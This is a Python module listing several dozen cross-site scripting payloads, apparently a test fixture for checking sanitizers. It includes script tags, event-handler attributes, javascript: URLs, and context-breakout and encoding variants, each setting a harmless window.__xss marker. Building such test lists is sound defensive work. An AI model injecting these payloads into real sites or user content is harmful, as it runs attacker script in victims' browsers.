"""Texts that run a script wherever a page takes text for markup. Each sets `window.__xss` or opens a dialog."""

RUN = "window.__xss=1"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/random>{RUN}</script>",
    f"<script\x0c>{RUN}</script>",
    "<script src=data:text/javascript,window.__xss=1></script>",
    f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template><img src=x onerror={RUN}>",
    "<iframe src=javascript:parent.__xss=1></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<object data=javascript:parent.__xss=1></object>",
    "<embed src=javascript:parent.__xss=1>",
    "<base href=//example.invalid/><script src=x.js></script>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<style>@import '//example.invalid/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    "<form action=javascript:window.__xss=1><button autofocus>go</button></form>",
    "<a href=javascript:window.__xss=1 autofocus>go</a>",
    "<a href='java&#x0a;script:window.__xss=1'>go</a>",
    "<a href='data:text/html,<script>opener.__xss=1</script>' target=_blank>go</a>",
)

HANDLERS = (
    f"<img src=x onerror={RUN}>",
    "<img src=x onerror=alert(1)//",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR='{RUN}'>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style='animation:arrive 1s' onanimationstart={RUN}>x</div>",
    f"<x contenteditable autofocus onfocus={RUN}>x</x>",
    f"<button popovertarget=p onclick={RUN}>x</button><p popover id=p onbeforetoggle={RUN}>",
)

BREAKOUTS = (
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover='{RUN}",
    f"</code></pre></td></table><img src=x onerror={RUN}>",
    f"</textarea></title><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"]]><img src=x onerror={RUN}>",
    "javascript:window.__xss=1",
    "${window.__xss=1}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "';window.__xss=1;//",
    "&lt;img src=x onerror=window.__xss=1&gt;",
    "%3Cimg%20src%3Dx%20onerror%3Dwindow.__xss%3D1%3E",
    "__proto__",
    "\u202e<script>window.__xss=1</script>",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
)

PAYLOADS = (*ELEMENTS, *HANDLERS, *BREAKOUTS)
